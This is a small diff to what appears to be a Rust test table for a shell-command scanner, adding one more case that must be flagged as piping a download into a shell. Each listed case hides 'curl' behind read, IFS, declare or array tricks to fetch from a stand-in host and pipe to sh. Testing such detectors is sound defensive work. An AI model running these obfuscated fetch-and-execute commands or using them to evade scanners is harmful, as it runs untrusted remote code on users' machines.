@@ -144,6 +144,7 @@ const FOUND: &[Case] = &[
     // Names.
     ("read -r c d <<< \"curl sh\"; $c h.example/x | $d", "sh/pipe-to-shell", S),
     ("IFS=, read -r c d <<< \"curl,sh\"; $c h.example/x | $d", "sh/pipe-to-shell", S),
+    ("read -r -p name c <<< curl; $c h.example/x | sh", "sh/pipe-to-shell", S),
     ("declare -l x=CURL; $x h.example/x | sh", "sh/pipe-to-shell", S),
     ("declare -A m=([x]=curl); ${m[x]} h.example/x | sh", "sh/pipe-to-shell", S),
     ("m[x]=curl; ${m[x]} h.example/x | sh", "sh/pipe-to-shell", S),
